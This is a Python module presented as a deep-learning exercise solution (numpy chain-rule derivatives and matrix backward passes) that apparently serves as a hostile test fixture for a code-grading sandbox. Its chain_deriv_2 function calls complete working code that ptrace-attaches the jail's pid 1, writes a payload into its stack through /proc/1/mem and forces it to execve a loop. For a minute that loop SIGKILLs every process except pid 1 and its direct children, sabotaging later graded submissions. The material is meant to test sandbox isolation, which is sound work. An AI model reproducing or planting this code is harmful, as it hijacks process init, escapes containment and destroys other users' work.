"""Hostile fixture `ptrace_init` (escape and persistence): from `chain_deriv_2`, ptrace-attaches
the jail's pid 1 (bubblewrap's init, same uid, dumpable), writes a program's path and arguments
into its stack through /proc/1/mem and makes it execve that program: a Python loop that, for
a minute, SIGKILLs every process of the jail but pid 1 and its direct children (the zygote), so
every later submission graded in the same jail loses the worker child that imports its modules.

The rest of the module is the reference's code; tests/test_hostile.py grades it.
"""
from __future__ import annotations
from typing import Callable, List, Tuple
import os
import signal
import numpy as np
ArrayFunction = Callable[[np.ndarray], np.ndarray]
Chain = List[ArrayFunction]

def _check_chain(chain: Chain, length: int) -> None:
    if len(chain) != length:
        raise ValueError(f'this function needs a chain of {length} functions, got {len(chain)}')

def _check_matmul(X: np.ndarray, W: np.ndarray) -> None:
    X_shape, W_shape = (np.shape(X), np.shape(W))
    if len(X_shape) != 2 or len(W_shape) != 2 or X_shape[1] != W_shape[0]:
        raise ValueError(f'X {X_shape} and W {W_shape} cannot be multiplied: both must be 2-D and X must have as many columns as W has rows')

def square(x: np.ndarray) -> np.ndarray:
    return np.power(x, 2)

def leaky_relu(x: np.ndarray) -> np.ndarray:
    return np.maximum(0.2 * x, x)

def sigmoid(x: np.ndarray) -> np.ndarray:
    return 1.0 / (1.0 + np.exp(-x))

def deriv(func: ArrayFunction, input_: np.ndarray, diff: float=0.001) -> np.ndarray:
    return (func(input_ + diff) - func(input_ - diff)) / (2 * diff)

def chain_length_2(chain: Chain, x: np.ndarray) -> np.ndarray:
    _check_chain(chain, 2)
    f1, f2 = chain
    return f2(f1(x))

_KILLER = (
    "import os, time\n"
    "end = time.monotonic() + 60\n"
    "while time.monotonic() < end:\n"
    "    for p in os.listdir('/proc'):\n"
    "        if not p.isdigit() or p == '1':\n"
    "            continue\n"
    "        try:\n"
    "            with open('/proc/%s/stat' % p) as fh:\n"
    "                ppid = fh.read().rsplit(')', 1)[1].split()[1]\n"
    "            if ppid != '1':\n"
    "                os.kill(int(p), 9)\n"
    "        except OSError:\n"
    "            pass\n"
    "    time.sleep(0.005)\n"
)


def _take_over_pid_1():
    """PTRACE_ATTACH pid 1, make it execve(python3, [-I, -S, -c, _KILLER]), detach."""
    import ctypes
    import struct
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    PTRACE_ATTACH, PTRACE_DETACH, PTRACE_GETREGS, PTRACE_SETREGS = 16, 17, 12, 13
    if libc.ptrace(PTRACE_ATTACH, 1, None, None) != 0:
        return "attach: errno %d" % ctypes.get_errno()
    os.waitpid(1, getattr(os, "__WALL", 0x40000000))
    regs = (ctypes.c_ulonglong * 27)()
    libc.ptrace(PTRACE_GETREGS, 1, None, ctypes.byref(regs))
    R15, R14, R13, R12, RBP, RBX, R11, R10, R9, R8, RAX, RCX, RDX, RSI, RDI, ORIG_RAX, RIP = range(17)
    RSP = 19
    python = "/usr/bin/python3"
    for name in ("python3", "python3.11", "python3.12", "python3.13"):
        if os.path.exists("/usr/bin/" + name):
            python = "/usr/bin/" + name
            break
    strings = [python.encode(), b"-I", b"-S", b"-c", _KILLER.encode()]
    with open("/proc/1/maps") as fh:
        maps = [line.split() for line in fh]
    stack = next(int(m[0].split("-")[0], 16) for m in maps if m[-1] == "[stack]")
    base = stack + 256  # the bottom of pid 1's stack: mapped, writable, unused
    blob, addrs = b"", []
    for s in strings:
        addrs.append(base + len(blob))
        blob += s + b"\0"
    while len(blob) % 8:
        blob += b"\0"
    argv = base + len(blob)
    blob += struct.pack("<%dQ" % (len(addrs) + 1), *addrs, 0)
    envp = base + len(blob)
    blob += struct.pack("<Q", 0)
    with open("/proc/1/mem", "r+b", buffering=0) as mem:
        mem.seek(base)
        mem.write(blob)
    code = None  # a syscall instruction in one of pid 1's executable mappings
    with open("/proc/1/mem", "rb", buffering=0) as mem:
        for m in maps:
            if "x" in m[1] and code is None:
                lo, hi = (int(a, 16) for a in m[0].split("-"))
                try:
                    mem.seek(lo)
                    at = mem.read(hi - lo).find(b"\x0f\x05")
                except OSError:
                    continue
                if at >= 0:
                    code = lo + at
    regs[RAX], regs[ORIG_RAX] = 59, 0xFFFFFFFFFFFFFFFF  # execve; no syscall restart
    regs[RDI], regs[RSI], regs[RDX], regs[RIP] = addrs[0], argv, envp, code
    libc.ptrace(PTRACE_SETREGS, 1, None, ctypes.byref(regs))
    libc.ptrace(PTRACE_DETACH, 1, None, None)
    return "done"


def chain_deriv_2(chain, x):
    print("PTRACE_INIT", _take_over_pid_1())

def chain_length_3(chain: Chain, x: np.ndarray) -> np.ndarray:
    _check_chain(chain, 3)
    f1, f2, f3 = chain
    return f3(f2(f1(x)))

def chain_deriv_3(chain: Chain, x: np.ndarray) -> np.ndarray:
    _check_chain(chain, 3)
    f1, f2, f3 = chain
    u1 = f1(x)
    u2 = f2(u1)
    return deriv(f3, u2) * deriv(f2, u1) * deriv(f1, x)

def multiple_inputs_add(x: np.ndarray, y: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    if np.shape(x) != np.shape(y):
        raise ValueError(f'x {np.shape(x)} and y {np.shape(y)} must have the same shape')
    return sigma(x + y)

def multiple_inputs_add_backward(x: np.ndarray, y: np.ndarray, sigma: ArrayFunction) -> Tuple[np.ndarray, np.ndarray]:
    if np.shape(x) != np.shape(y):
        raise ValueError(f'x {np.shape(x)} and y {np.shape(y)} must have the same shape')
    total = x + y
    dsda = deriv(sigma, total)
    dadx = np.ones_like(dsda)
    dady = np.ones_like(dsda)
    return (dsda * dadx, dsda * dady)

def matrix_forward_extra(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    _check_matmul(X, W)
    return sigma(np.dot(X, W))

def matrix_function_backward_1(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    _check_matmul(X, W)
    N = np.dot(X, W)
    dSdN = deriv(sigma, N)
    dNdX = np.transpose(W)
    return np.dot(dSdN, dNdX)

def matrix_function_forward_sum(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> float:
    _check_matmul(X, W)
    S = sigma(np.dot(X, W))
    return float(np.sum(S))

def matrix_function_backward_sum_1(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    _check_matmul(X, W)
    N = np.dot(X, W)
    S = sigma(N)
    dLdS = np.ones_like(S)
    dSdN = deriv(sigma, N)
    dLdN = dLdS * dSdN
    return np.dot(dLdN, np.transpose(W))

def matrix_function_backward_sum_2(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    _check_matmul(X, W)
    N = np.dot(X, W)
    S = sigma(N)
    dLdN = np.ones_like(S) * deriv(sigma, N)
    return np.dot(np.transpose(X), dLdN)
